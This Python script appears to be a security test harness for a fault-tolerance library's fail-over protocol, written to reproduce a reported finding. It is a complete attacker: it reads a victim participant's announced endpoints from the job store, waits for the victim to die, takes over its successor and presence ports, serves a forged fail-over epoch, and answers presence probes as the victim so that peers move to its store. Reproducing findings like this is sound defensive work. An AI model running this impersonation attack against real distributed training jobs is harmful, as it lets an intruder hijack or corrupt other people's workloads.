"""An attacker that reaches a job's store and the host of one of its participants (issue 37,
finding 2), but not the job's secret.

It reads, as any store client can, what the victim announced when it joined -- its presence
endpoint and the endpoint it would serve a successor store on -- and this launch's ids. Once the
victim is dead (an ordinary peer loss: its presence port refuses), it takes over both ports:
it serves a TCPStore on the successor port whose fail-over epoch value says 1 (``--epoch-value``:
a plain "1" without a secret; with one, the sealed value of an earlier launch's fail-over, which
is all an attacker without the secret can have), and answers every presence probe as the victim:
"alive, I follow the store of epoch 1 over there".

    python failover_squatter.py --endpoint HOST:PORT --run-id RUN --victim ID --epoch-value HEX --seconds S

It ends after S seconds or on SIGTERM.

Prints ``ready`` once it read the victim's announcement, ``squatting`` once it holds both ports,
``answered N`` after each probe it answered, and at the end how many keys others wrote to its
store (a participant that moved there would have written its view and registration).
"""

from __future__ import annotations

import argparse
import datetime
import signal
import socket
import time

import torch.distributed as dist

from lightning_ft.failover.presence import PresenceProof, parse_request
from lightning_ft.schema.failover import decode_presence, epoch_key, failover_scope, presence_key
from lightning_ft.schema.run import LAUNCH_KEY, RunKeys, incarnation_key
from lightning_ft.schema.signing import MAGIC, TAG_BYTES, Signer
from lightning_ft.store.tcp import listen_on, parse_endpoint


def plain(raw: bytes) -> bytes:
    """A value as stored, without its seal (sealed is not encrypted: anyone reads the plain part)."""
    return raw[len(MAGIC) + TAG_BYTES:] if raw.startswith(MAGIC) else raw


def refuses(endpoint: str) -> bool:
    target = parse_endpoint(endpoint)
    try:
        with socket.create_connection((target.host, target.port), timeout=1.0):
            return False
    except ConnectionRefusedError:
        return True
    except OSError:
        return False


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--endpoint", required=True)
    parser.add_argument("--run-id", required=True)
    parser.add_argument("--victim", required=True, help="the participant id to answer as")
    parser.add_argument("--epoch-value", required=True, help="hex of the bytes its store holds as the epoch")
    parser.add_argument("--seconds", type=float, default=60.0)
    args = parser.parse_args()
    job = parse_endpoint(args.endpoint)
    store = dist.TCPStore(job.host, job.port, is_master=False, timeout=datetime.timedelta(seconds=30))
    incarnation = int(plain(store.get(incarnation_key(args.run_id))))
    launch_id = plain(store.get(LAUNCH_KEY)).decode()
    announced = decode_presence(plain(store.get(presence_key(RunKeys(args.run_id, incarnation).prefix, args.victim))))
    assert announced is not None
    print(f"ready: {args.victim} announced {announced}", flush=True)
    while not refuses(announced.presence):
        time.sleep(0.01)
    successor = parse_endpoint(announced.successor)
    server = dist.TCPStore(successor.host, successor.port, is_master=True, wait_for_workers=False,
                           timeout=datetime.timedelta(seconds=30),
                           master_listen_fd=listen_on(successor.host, successor.port).detach())
    value = bytes.fromhex(args.epoch_value)
    server.set(epoch_key(failover_scope(args.run_id, incarnation, launch_id)), value)
    server.set("lightning_ft_failover/epoch", value)  # where the code before issue 37 read it
    presence = parse_endpoint(announced.presence)
    listener = listen_on(presence.host, presence.port)
    listener.settimeout(0.2)
    keys_at_start = server.num_keys()
    print("squatting", flush=True)
    proof = PresenceProof(Signer(None), args.run_id, incarnation, launch_id)  # no secret: no MAC
    answered = 0
    stop = {"requested": False}
    signal.signal(signal.SIGTERM, lambda *_: stop.update(requested=True))
    deadline = time.monotonic() + args.seconds
    while time.monotonic() < deadline and not stop["requested"]:
        try:
            conn, _ = listener.accept()
        except TimeoutError:
            continue
        with conn:
            conn.settimeout(1.0)
            try:
                request = parse_request(conn.makefile("rb").readline().rstrip(b"\n"))
                if request is None:
                    continue
                conn.sendall(proof.answer(args.victim, 1, announced.successor, request.nonce))
            except OSError:
                continue
        answered += 1
        print(f"answered {answered}", flush=True)
    print(f"keys others wrote to its store: {server.num_keys() - keys_at_start}", flush=True)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
